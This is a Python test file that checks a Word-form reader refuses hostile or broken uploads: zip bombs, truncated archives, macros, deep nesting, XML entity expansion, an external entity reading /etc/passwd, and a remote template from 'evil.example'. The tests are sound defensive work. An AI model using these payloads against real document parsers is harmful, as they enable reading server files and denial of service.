"""Hostile and broken files: each is refused with a reason, quickly, and nothing it points to is touched."""

from __future__ import annotations

import io
import tracemalloc
import zipfile
from collections.abc import Callable

import pytest
from builders import a_jpeg
from hypothesis import given
from hypothesis import strategies as st
from word_documents import W, a_document, p, packed, parts_of, with_body
from wrong_files import compound

from forms.questionnaire.shipped import load
from forms.word import open_document, word_form
from forms.word.opening import REASONS

BLANK = word_form.blank(load("2026"))
MOST_MEMORY = 200_000_000
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>'


def with_xml(text: str, encoding: str = "utf-8") -> bytes:
    return packed({**parts_of(BLANK), "word/document.xml": text.encode(encoding)})


def with_more(**parts: bytes) -> bytes:
    return packed({**parts_of(BLANK), **{name.replace("__", "/"): data for name, data in parts.items()}})


def reaching_out() -> bytes:
    parts = parts_of(BLANK)
    questionnaire = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return packed({**parts, "word/_rels/settings.xml.rels": questionnaire.encode()})


def locked_zip() -> bytes:
    """An archive whose parts say that they are encrypted."""
    data = bytearray(BLANK)
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def lying_zip() -> bytes:
    """An archive whose list says that a part is small, and whose part is not."""
    big = packed({**parts_of(BLANK), "word/document.xml": b"<a>" + b" " * 20_000_000 + b"</a>"})
    return big.replace((20_000_007).to_bytes(4, "little"), (900).to_bytes(4, "little"))


UTF_16 = '<?xml version="1.0" encoding="utf-16"?>'
BODY = f"<w:document {W}><w:body>{{}}</w:body></w:document>"
CASES: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "empty": (lambda: b"", {"empty"}),
    "a text": (lambda: b"Purpose: company", {"not_word"}),
    "a picture": (lambda: a_jpeg(), {"picture"}),
    "an old Word document": (lambda: compound("WordDocument"), {"old_word"}),
    "a Word document with a password": (lambda: compound("EncryptedPackage"), {"locked"}),
    "a locked archive": (lambda: locked_zip(), {"locked"}),
    "an archive of something else": (lambda: packed({"a.txt": b"a"}), {"archive"}),
    "half a document": (lambda: BLANK[: len(BLANK) // 2], {"damaged"}),
    "a bomb": (lambda: with_xml("<a>" + " " * 50_000_000 + "</a>"), {"bomb"}),
    "a bomb that lies about its size": (lambda: lying_zip(), {"damaged", "bomb", "too_large"}),
    "thousands of parts": (lambda: with_more(**{f"a{number}": b"" for number in range(2_500)}), {"bomb"}),
    "entities": (lambda: with_xml(ENTITIES + BODY.format(p("&b;"))), {"damaged"}),
    "entities in UTF-16": (
        lambda: with_xml(f'<?xml version="1.0" encoding="utf-16"?>{ENTITIES}<x>&f;</x>', "utf-16"),
        {"damaged"},
    ),
    "broken XML": (lambda: with_xml("<w:document"), {"damaged"}),
    "a deep nest": (lambda: with_xml(BODY.format("<w:a>" * 5_000 + "</w:a>" * 5_000)), {"damaged"}),
    "a million tags": (lambda: with_xml(BODY.format("<w:p/>" * 1_000_000)), {"too_large", "bomb"}),
    "macros": (lambda: with_more(word__vbaProject=b"x"), {"macros"}),
    "a template from elsewhere": (lambda: reaching_out(), {"reaches_out"}),
}


@pytest.mark.parametrize("name", CASES)
def test_a_hostile_file_is_refused_with_a_reason_and_without_much_memory(name: str) -> None:
    make, reasons = CASES[name]
    data = make()
    tracemalloc.start()
    try:
        with pytest.raises(word_form.Refused) as refused:
            word_form.read(data)
        assert tracemalloc.get_traced_memory()[1] < MOST_MEMORY
    finally:
        tracemalloc.stop()
    assert refused.value.reason in reasons & REASONS


def test_an_open_document_is_refused_kindly_where_it_cannot_be_converted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(open_document, "converter", lambda: "")
    data = packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}, zipfile.ZIP_STORED)
    with pytest.raises(word_form.Refused, match="no_converter"):
        word_form.read(data)


def test_a_picture_from_another_address_is_not_fetched() -> None:
    linked = '<w:p><w:r><w:drawing><a:blip xmlns:a="a" xmlns:r="r" r:link="rX"/></w:drawing></w:r></w:p>'
    assert word_form.read(with_body(BLANK, lambda xml: xml.replace("<w:sectPr>", linked + "<w:sectPr>"))).pictures == ()


def test_a_document_of_many_headings_and_rows_is_read_in_one_piece() -> None:
    heading = '<w:pPr><w:outlineLvl w:val="1"/></w:pPr>'
    rows = "".join(f"<w:tr><w:tc>{p('Name')}</w:tc><w:tc>{p(f'Person {n}')}</w:tc></w:tr>" for n in range(3_000))
    body = "".join(p(f"Purposes {n}", heading) for n in range(3_000)) + p("Contact persons", heading)
    reading = word_form.read(a_document(f"{body}<w:tbl>{rows}</w:tbl>"))
    assert "Person 2999" in "\n".join(one.text for one in reading.leftovers)


@given(st.data())
def test_no_damage_makes_the_reader_fail_in_another_way(data: st.DataObject) -> None:
    name = data.draw(st.sampled_from(sorted(zipfile.ZipFile(io.BytesIO(BLANK)).namelist())))
    parts = parts_of(BLANK)
    at = data.draw(st.integers(0, max(0, len(parts[name]) - 1)))
    piece = data.draw(
        st.one_of(st.binary(max_size=8), st.sampled_from([b"<w:p>", b"</w:tc>", b'w:val=""', b"<w:sdt/>"]))
    )
    cut = data.draw(st.integers(0, 30))
    parts[name] = parts[name][:at] + piece + parts[name][at + cut :]
    try:
        word_form.read(packed(parts))
    except word_form.Refused as refused:
        assert refused.reason in REASONS


@given(st.binary(max_size=200), st.booleans())
def test_no_bytes_make_the_reader_fail_in_another_way(data: bytes, as_archive: bool) -> None:
    try:
        word_form.read((BLANK[:3_000] if as_archive else b"") + data)
    except word_form.Refused as refused:
        assert refused.reason in REASONS
